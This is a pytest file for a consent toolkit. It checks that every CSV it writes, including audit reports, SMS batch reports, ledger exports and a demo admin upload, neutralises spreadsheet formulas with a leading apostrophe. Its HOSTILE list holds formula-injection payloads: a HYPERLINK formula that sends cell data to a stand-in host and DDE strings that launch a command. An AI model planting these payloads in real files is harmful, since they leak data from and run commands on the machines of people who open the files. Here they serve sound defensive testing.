"""Every CSV the toolkit writes is safe to open in a spreadsheet (issue 13 item 5, security
review M6): a cell that would run as a formula gets a leading apostrophe (OWASP's rule)."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from conftest import ROOT, audited_list, run

from toolkit.csvio import neutralise

DSE = str(ROOT / "examples" / "dse-france.toml")
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=",
    "-",
]


@pytest.mark.parametrize("cell", HOSTILE)
def test_a_formula_is_neutralised(cell: str) -> None:
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize(
    "cell", ["+33612345678", "+33 6 12 34 56 78", "-12.5", "+1 (555) 123-4567", "Anna", "", "a=b"]
)
def test_numbers_and_text_are_kept(cell: str) -> None:
    """A number or a phone number is at worst arithmetic: it keeps its form, so an audit's
    numbers survive the round trip."""
    assert neutralise(cell) == cell


def cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8", newline="") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def test_audit_and_batch_reports_carry_no_formula(tmp_path: Path) -> None:
    contacts = tmp_path / "contacts.csv"
    with contacts.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["phone", "first_name", "email"])
        for cell in HOSTILE:
            writer.writerow(["+33612345678", cell, cell])
        writer.writerow(["+33612345679", "Anna", "anna@example.org"])
    from toolkit.proof import Ledger

    with Ledger(tmp_path / "l.db") as book:
        book.count()  # an empty ledger: every row is blocked, with its cells written back
    code, _out, err = run(
        "audit", str(contacts), "-p", "sms_offers", "--db", str(tmp_path / "l.db"),
        "-o", str(tmp_path / "audit"), "--spec", DSE,
    )  # fmt: skip
    assert code == 0, err
    written = cells(tmp_path / "audit" / "blocked.csv")
    for cell in HOSTILE:
        assert "'" + cell in written and cell not in written
    assert "+33612345678" in written  # the numbers themselves are kept
    report = tmp_path / "report.csv"
    code, _out, err = run(
        "sms", "batch", DSE, str(contacts), "--template", "{first_name}", "--locale", "fr",
        "-o", str(report),
    )  # fmt: skip
    assert code == 0, err
    written = cells(report)
    assert all(not cell or cell[0] not in "=+-@\t\r" or cell.startswith("+336") for cell in written)
    assert "'" + HOSTILE[0] in written


def test_the_ledger_csv_export_and_the_demo_audit_neutralise(tmp_path: Path) -> None:
    from demo import create_app

    app = create_app(
        {
            "OPTIN_SPEC": DSE,
            "OPTIN_DATABASE_URL": f"sqlite:///{tmp_path / 'd.db'}",
            "OPTIN_ADMIN_TOKEN": "admin-secret-token",
            "TESTING": True,
        }
    )
    book = app.extensions["optin"].ledger
    book.record("+33612345678", "sms_offers", "opposition", method="sms-reply", locale="fr",
                evidence={"message": HOSTILE[0]})  # fmt: skip
    exported = list(csv.reader(book.export("csv")))
    assert all(not cell or cell[0] not in "=+-@\t\r" or cell.startswith("+336")
               for row in exported for cell in row)  # fmt: skip
    client = app.test_client()
    bearer = {"Authorization": "Bearer admin-secret-token"}
    page = client.get("/admin/", headers=bearer).get_data(as_text=True)
    csrf = re.search(r'name="csrf_token" value="([^"]+)"', page).group(1)  # type: ignore[union-attr]
    upload = "phone,name\n+33612345678," + HOSTILE[3] + "\n"
    answer = client.post(
        "/admin/audit",
        data={
            "csrf_token": csrf,
            "purpose": "sms_offers",
            "contacts": (io.BytesIO(upload.encode()), "c.csv"),
        },
        headers=bearer,
        content_type="multipart/form-data",
    )
    assert answer.status_code == 200, answer.get_data(as_text=True)[:300]
    assert "'" + HOSTILE[3] in audited_list(client, answer, bearer)
    book.close()


def test_an_email_subject_that_is_a_formula_is_neutralised(tmp_path: Path) -> None:
    """M6 (a): an address may start with "=" or "+" and still be valid; the ledger's CSV
    export writes it neutralised, and the JSON export keeps it as it is."""
    from toolkit import load_spec, render
    from toolkit.proof import Ledger

    spec = load_spec(ROOT / "examples" / "newsletter.toml")
    versions = {a: render(spec, a, "de").version for a in ("checkbox", "notice-full")}
    with Ledger(tmp_path / "l.db", spec=spec) as book:
        for address in ("=1+1@example.org", "+cmd@example.org", "@sum@example.org"):
            try:
                book.record(address, "newsletter", "grant", method="web-form",
                            versions=versions, locale="de")  # fmt: skip
            except ValueError:
                continue  # not an address the validator accepts: it is never stored
        subjects = [e.subject for e in book.events()]
        assert "=1+1@example.org" in subjects  # a valid address: kept as the person typed it
        exported = [cell for row in csv.reader(book.export("csv")) for cell in row]
        for subject in subjects:
            assert "'" + subject in exported and subject not in exported
